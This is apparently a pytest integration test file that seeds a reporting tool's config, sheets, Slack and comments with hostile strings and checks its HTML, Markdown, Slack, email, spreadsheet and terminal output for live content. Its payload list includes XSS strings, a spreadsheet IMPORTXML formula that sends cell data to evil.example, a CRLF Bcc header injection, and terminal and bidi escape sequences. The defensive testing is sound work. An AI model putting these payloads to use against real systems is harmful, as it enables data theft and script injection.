"""Text from people and sources is data wherever it is shown: reports, pages, digests, the sheet, goals, the terminal.

One team whose every name, title, finding, cell and comment attacks something; then all that alignd shows is read with
the readers people use.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from connectors.sandbox.server import Sandbox
from sync.app import open_app
from sync.cli.entry import main
from sync.glossary import glossary_text
from sync.unified import Format, report_text
from tests.integration.numbers_team import ENVIRONMENT, Counters
from tests.integration.team import MONDAY, Clock
from tests.unit.dashboard_house import House

ATTACKS = [
    '<script>alert(1)</script>"><img src=x onerror=alert(1)>',
    '=IMPORTXML("http://evil.example/?q="&A1,"//a")',
    "@channel <!here> <!subteam^S1> <@U0000000001> <https://evil.example|here>",
    "*bold* _it_ `code` ~~gone~~ | cell | ::: # head",
    "a]( javascript:alert(1)) [x](javascript:alert(1)) ![p](https://evil.example/p.png) <https://evil.example/a>",
    "{{7*7}} {% raw %} #{7*7} $\\frac{1}{0}$ $x$ \\\\",
    "visits \u202eevil\u202c \u2066x\u2069 \u200b",
    "bell\u0007 escape\u001b[31mred\u001b]0;title\u0007 nul\u0000 back\u0008 line\u2028sep\u0085end",
    "first\r\nBcc: eve@evil.example\r\n\r\n<b>second</b>\n- item\n# head\n---",
    "--> </style></title></textarea></svg><svg onload=alert(1)> <!-- ]]> &lt;script&gt; &#x3c;b&#x3e;",
    "👩‍👩‍👧‍👦 🚀 é̂ 中文 שלום",
    "lone \ud83d surrogate \udc00 end \ufffe",
    "+1 -1 =1 @SUM(A1) javascript:alert(1) www.evil.example mailto:eve@evil.example",
    "long " + "x" * 10_000,
]
KEYS = [f"k{number}" for number in range(len(ATTACKS))]
EMAIL = "thandi@saypro.example"
OURS = ("https://app.asana.com/", "https://alignd.saypro.example")


def quoted(text: str) -> str:
    """In YAML, as far as the file may say it."""
    return json.dumps("".join(one for one in text if one != "\ufffe" and (not is_control(one) or one in "\r\n\x85")))


def the_file(team: Counters) -> None:
    url = team.sandbox.url
    team.kpis = "".join(
        f"\n  {key}: {{name: {quoted(text)}, definition: {quoted(text)}, owner: thandi, data_owner: johan,"
        f" period: week, target: {1000 if place % 3 else 1}, breakdown: sessionSource,"
        f" value: {{source: web, metric: sessions}}}}"
        for place, (key, text) in enumerate(zip(KEYS, ATTACKS, strict=True))
    )
    team.kpis += (
        "\n  won: {name: Won, owner: thandi, period: week, target: 10, value: {source: crm, object: deals, "
        f"date: createdate, filter: {{dealstage: {quoted(ATTACKS[3])}}}, aggregate: count}}}}"
    )
    team.more_sources = f'  crm: {{kind: hubspot, token: hubspot-sandbox, endpoint: "{url}"}}\n'
    goals = ", ".join(
        f"{{id: g{key}, title: {quoted(text)}, owner: neo, by: 2026-10-01, kpis: [{key}]}}"
        for key, text in zip(KEYS, ATTACKS, strict=True)
    )
    team.rest = f"""
policy: {{max_open: 100, breach_after: 1}}
goals: [{goals}]
reviews:
  weekly: {{title: {quoted(ATTACKS[0])}, every: 1 week, on: thursday, at: "10:00", owner: johan, invite: [marketing],
           summary_to: [team_slack], agenda: [to_decide, numbers, {quoted(ATTACKS[4])}]}}
campaigns:
  - {{id: spring, title: {quoted(ATTACKS[4])}, owner: thandi, starts: 2026-11-09, ends: 2026-11-29,
     measure: [{{kpi: k0, target: 5}}]}}
findings: {{source: scorecard, table: "Findings!A:F"}}
channels:
  team_slack: {{kind: slack, token: xoxb-sandbox, channel: C0123456789, endpoint: "{url}"}}
  mail: {{kind: email, smtp: "{team.sandbox.smtp.url}", from: alignd@saypro.example, to: [thandi]}}
digests:
  - {{channel: team_slack, every: 1 day, at: "08:30"}}
  - {{channel: mail, every: 1 day, at: "08:30"}}
publish: {{sheet: {{source: scorecard, tab: Dashboard}}}}
daemon: {{alerts: mail, public_url: "https://alignd.saypro.example"}}
"""
    team.tracker_keys = "new_at_most: 500"
    people = team.text
    team.text = lambda: (  # type: ignore[method-assign]
        people()
        .replace("name: Neo Khumalo", f"name: {quoted(ATTACKS[0])}")
        .replace("name: Thandi Mokoena", f"name: {quoted(ATTACKS[8])}")
        .replace("name: Marketing,", f"name: {quoted(ATTACKS[2])},")
    )
    for number in range(1, 100):
        day = MONDAY - timedelta(days=number)
        team.web.record(day, {"sessions": 5})
        team.web.record(day, {"sessions": 5}, where={"sessionSource": ATTACKS[number % 10].replace("\0", "")})
    rows: list[list[Any]] = [["Date", "KPI", "Finding", "Recommendation", "By", "Answer"]]
    rows += [
        [date(2026, 11, 6), key, text.replace("\0", "")[:5000], text.replace("\0", "")[:500], "johan", ""]
        for key, text in zip(KEYS, ATTACKS, strict=True)
        if "\ud83d" not in text
    ]
    team.sheet.add_tab("Findings", rows)
    team.sandbox.hubspot.tokens = {"hubspot-sandbox"}
    team.sandbox.slack.state.add_bot()
    team.sandbox.slack.state.add_channel("C0123456789", name=ATTACKS[0])


@pytest.fixture(scope="module")
def team(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Counters]:
    """A week with it: items, a review with what people wrote, a summary, two digests, an alert."""
    clock = Clock(datetime(2026, 11, 17, 6, 0, tzinfo=UTC))
    with Sandbox(clock) as sandbox:
        made = Counters(tmp_path_factory.mktemp("hostile"), sandbox, clock)
        the_file(made)
        made.at("2026-11-17T08:00").sync()
        made.at("2026-11-18T08:30").sync()
        review = next(one for one in made.tasks() if "alert(1)" in one.name and "review" in one.notes)
        item = next(one for one in made.tasks() if "IMPORTXML" in one.name)
        made.at("2026-11-19T10:20")
        for text in ATTACKS:
            said = "".join(one for one in text if one.isprintable() or one in " \u202e\u2066")[
                :4000
            ]  # as Asana takes it
            made.person().comment(review.gid, f"Decision: {said}\nAction: thandi – {said[:200]} – 12 Dec")
            made.person().comment(item.gid, said)
        made.person().comment(item.gid, f"alignd wrong: {ATTACKS[0]}")
        made.at("2026-11-19T11:00").sync()
        sandbox.faults.add("ga4", "status", status=403, times=None)
        made.at("2026-11-20T09:00").sync()
        sandbox.faults.clear()
        yield made


# ── readers ──────────────────────────────────────────────────────────────────────────────────────────────────────


@dataclass
class Page(HTMLParser):
    """What a browser would make of a page: whatever could act, load or lead away."""

    live: list[str] = field(default_factory=list)
    styles: list[str] = field(default_factory=list)
    policies: list[str] = field(default_factory=list)
    tags: set[str] = field(default_factory=set)
    text: list[str] = field(default_factory=list)
    _within: str = ""

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attrs}
        self.tags.add(tag)
        self._within = tag
        if tag == "meta" and said.get("http-equiv", "").lower() == "content-security-policy":
            self.policies.append(said["content"])
        if tag in ("iframe", "object", "embed", "base", "link", "form", "script") and not self._is_own(tag, said):
            self.live.append(self.get_starttag_text() or tag)
        for name, value in said.items():
            leads = name in (
                "href",
                "src",
                "action",
                "formaction",
                "xlink:href",
                "srcset",
                "poster",
                "data",
                "background",
            )
            if name.startswith("on") or name == "srcdoc" or (leads and not _is_ours(value)):
                self.live.append(f"{tag} {name}={value}")

    def _is_own(self, tag: str, said: dict[str, str]) -> bool:
        if tag == "script":
            return bool(said.get("src")) and "://" not in said["src"] and not said["src"].startswith("//")
        return tag == "link" and "://" not in said.get("href", "") and said.get("rel") in ("stylesheet", "icon")

    def handle_endtag(self, tag: str) -> None:
        self._within = ""

    def handle_data(self, data: str) -> None:
        (self.styles if self._within == "style" else self.text).append(data)

    def handle_comment(self, data: str) -> None:
        self.text.append(data)


def _is_ours(address: str) -> bool:
    if re.match(r"[a-zA-Z][\w+.-]*:", address.strip()) or address.strip().startswith("//"):
        return address.startswith((*OURS, "cid:"))
    return not address.startswith("\\")


def page(text: str) -> Page:
    found = Page()
    found.feed(text)
    found.close()
    return found


def is_dead(text: str, where: str) -> Page:
    found = page(text)
    assert found.live == [], where
    shown = "".join(found.text)
    assert not [one for one in shown if is_control(one)], (where, {one for one in shown if is_control(one)})
    return found


def is_control(sign: str) -> bool:
    """What moves a terminal's cursor, turns a line round, or no encoding can say."""
    return unicodedata.category(sign) in ("Cc", "Cs") and sign not in "\n\t"


def turns(text: str) -> bool:
    """Whether a change of direction in one line would reach over what stands behind it."""
    opened = 0
    for one in text:
        opened += one in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"
        opened -= one in "\u202c\u2069"
        if opened and one == "\n":
            return True
    return False


# ── reports ──────────────────────────────────────────────────────────────────────────────────────────────────────


@contextmanager
def opened(team: Counters) -> Iterator[Any]:
    with open_app(team.config(), at=team.clock.now) as app:
        yield app


def markdown_is_dead(text: str) -> None:
    assert not [one for one in text if is_control(one)], {hex(ord(one)) for one in text if is_control(one)}
    kinds = set()
    for token in MarkdownIt("gfm-like", {"html": True, "linkify": False}).parse(text):
        kinds.add(token.type)
        assert token.type != "html_block", token.content
        for child in token.children or []:
            assert child.type not in ("html_inline", "image", "s_open"), child.content
            assert child.type != "code_inline" or is_advice(child.content), child.content
            if child.type == "link_open":
                assert _is_ours(str(child.attrs["href"])), child.attrs
    assert not kinds & {"blockquote_open", "fence", "code_block"}, kinds


def is_advice(code: str) -> bool:
    """A key of the file, as the advice of a gap names it; nothing that an attack put between backticks."""
    return code != "code" and not re.search(r"evil|alert|IMPORT|[<|*$]", code)


def test_markdown_has_no_element_that_is_not_ours(team: Counters) -> None:
    with opened(team) as app:
        markdown_is_dead(report_text(app.alignment(), Format.MD))
        markdown_is_dead(glossary_text(app.glossary(), Format.MD, app.config.workspace.calendar.zone))


def test_pages_to_keep_have_no_script_and_their_policy_fits(team: Counters) -> None:
    with opened(team) as app:
        pages = {
            "report": report_text(app.alignment(), Format.HTML),
            "definitions": glossary_text(app.glossary(), Format.HTML, app.config.workspace.calendar.zone),
        }
        json.loads(report_text(app.alignment(), Format.JSON).encode())
    pages |= {path.name: path.read_text("utf-8") for path in team.folder.rglob("reports/*.html")}
    for name, text in pages.items():
        found = is_dead(text, name)
        assert "script" not in found.tags, name
        (policy,) = found.policies
        digest = base64.b64encode(hashlib.sha256("".join(found.styles).encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy, name
        assert "alert(1)" in "".join(found.text), name


def test_the_dashboard_has_no_script_but_its_own(team: Counters) -> None:
    with House([team.config()], now=team.clock.now).open() as house:
        paths = ["/", "/report", "/decisions", "/definitions", "/review/2026-11-19", "/nothing/%3Cscript%3E"]
        paths += [f"/kpi/{key}" for key in ("k0", "k7", "k9", "won", "%22%3E%3Cimg%20onerror=x%3E")]
        for path in paths:
            asked = house.ask(path)
            assert asked.status in (200, 404), (path, asked.status)
            if not path.startswith("/report"):  # a file of its own, held to its own policy above
                assert "style" not in is_dead(asked.text, path).tags, path
            assert "script-src 'self'" in asked.headers["content-security-policy"] or path.startswith("/report")


# ── what is sent ─────────────────────────────────────────────────────────────────────────────────────────────────


def test_slack_mentions_nobody_and_links_nowhere_else(team: Counters) -> None:
    messages = team.sandbox.slack.state.channels["C0123456789"].messages
    assert len(messages) >= 3
    for one in messages:
        assert not re.search(r"[<>]|&(?!amp;|lt;|gt;)", one.text), one.text
        assert not re.search(r"@(channel|here|everyone|U0)", one.text)
        assert (one.sent["mrkdwn"], one.sent["parse"], one.sent["link_names"]) == (False, "none", False)
        for part in _parts(one.blocks):
            assert part["type"] in ("text", "link"), part
            assert part["type"] == "text" or _is_ours(part["url"]), part
        said = one.text + json.dumps(one.blocks, ensure_ascii=False)
        assert not [sign for sign in one.text if is_control(sign)]
        said.encode()


def _parts(blocks: Any) -> Iterator[dict[str, Any]]:
    for block in blocks:
        if "elements" in block:
            yield from _parts(block["elements"])
        else:
            yield block


def test_a_mails_headers_are_one_line_each_and_its_page_is_dead(team: Counters) -> None:
    assert len(team.sandbox.mails) >= 3
    ours = {"From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "X-Auto-Response-Suppress", "List-Id",
            "MIME-Version", "Content-Type"}  # fmt: skip
    for mail in team.sandbox.mails:
        assert set(mail.message.keys()) <= ours
        assert mail.recipients == (EMAIL,)
        for name, value in mail.message.items():
            assert not re.search(r"[\x00-\x1f\x7f]", str(value)), (name, value)
        found = is_dead(mail.body("html").replace("\r\n", "\n"), mail.subject)
        assert not found.tags & {"script", "svg", "style", "form"}
        assert not [one for one in mail.body() if is_control(one) and one != "\r"]
        for part in mail.message.walk():
            assert part.get_content_type() in (
                "multipart/alternative", "multipart/related", "text/plain", "text/html", "image/png"
            )  # fmt: skip


# ── what is shown elsewhere ──────────────────────────────────────────────────────────────────────────────────────


def test_the_tab_holds_texts_and_numbers_and_no_formula(team: Counters) -> None:
    writes = [one for one in team.sandbox.asked("sheets") if one.path.endswith("values:batchUpdate")]
    assert writes
    for one in writes:
        body = json.loads(one.body)
        assert body["valueInputOption"] == "RAW"
    for one in team.sandbox.asked("sheets", "POST"):
        assert b"formulaValue" not in one.body
        assert b"USER_ENTERED" not in one.body
    cells = [cell for row in team.sheet.tab("Dashboard").cells for cell in row]
    assert any(isinstance(cell, str) and cell.startswith("=IMPORTXML") for cell in cells), "as it is, and no formula"
    assert not [cell for cell in cells if isinstance(cell, str) and any(is_control(one) for one in cell)]


def test_a_terminal_gets_no_control_characters(team: Counters, capsys: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in {**ENVIRONMENT, "COLUMNS": "80"}.items():
        monkeypatch.setenv(name, value)
    team.file.write_text(team.text())
    at = team.clock.now.isoformat()
    for words in (
        ("status",), ("status", "--for", "thandi"), ("status", "--goals"), ("status", "--json"), ("report",),
        ("report", "--json"), ("definitions",), ("definitions", "--json"), ("history", "--decisions"),
        ("why", "k7", "--at", at), ("doctor",), ("check",),
    ):  # fmt: skip
        assert main([*words, "-c", str(team.file)]) in (0, 1), words
        text = capsys.readouterr().out
        assert not [one for one in text if is_control(one)], (words, {hex(ord(x)) for x in text if is_control(x)})
        assert not turns(text), words
        text.encode()
